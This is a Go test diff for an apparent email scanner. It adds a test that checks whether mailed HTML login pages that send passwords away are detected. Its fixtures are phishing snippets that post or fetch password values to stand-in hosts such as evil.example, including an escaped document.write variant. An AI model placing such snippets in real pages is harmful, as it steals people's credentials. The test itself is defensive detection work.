@@ -6,6 +6,8 @@ import (
 	"regexp"
 	"strings"
 	"testing"
+
+	"github.com/mailguard/mailguard/reason"
 )
 
 func TestContainsFold(t *testing.T) {
@@ -166,4 +168,33 @@ func FuzzEscapeRuns(f *testing.F) {
 			}
 		}
 	})
+}
+
+// TestCredentialForm: mailed login pages that post the password away are
+// reported (in clear, behind escaping, or sending it by script); a page
+// with a password field and nowhere to send it, and ordinary HTML, not.
+func TestCredentialForm(t *testing.T) {
+	form := `<form action="https://evil.example/p.php" method="post"><input name=u><input type="password" name=p></form>`
+	script := `<input type='password' id=p><script>fetch("https://evil.example/c",{method:"POST",body:p.value})</script>`
+	for name, doc := range map[string]string{
+		"form":    form,
+		"script":  script,
+		"escaped": `<script>document.write(unescape("` + pctEscape(form) + `"))</script>`,
+		"jquery":  `<input TYPE=PASSWORD name=pw><script>$.post("https://x.example/", {p: 1})</script>`,
+	} {
+		if d := credentialForm([]byte(doc)); d == "" {
+			t.Errorf("%s: not reported", name)
+		}
+	}
+	for name, doc := range map[string]string{
+		"no destination": `<form><input type="password"></form>`,
+		"no password":    `<form action="https://www.example.co.jp/search"><input name=q></form>`,
+		"text only":      `<p>Your password will expire soon. Contact IT.</p>`,
+	} {
+		if d := credentialForm([]byte(doc)); d != "" {
+			t.Errorf("%s: reported %q", name, d)
+		}
+	}
+	res := walk(t, mkMessage("x", attachment("Document.html", "text/html", []byte(form))), Options{})
+	wantTag(t, file(t, res, "Document.html").Findings, reason.CredentialForm)
 }
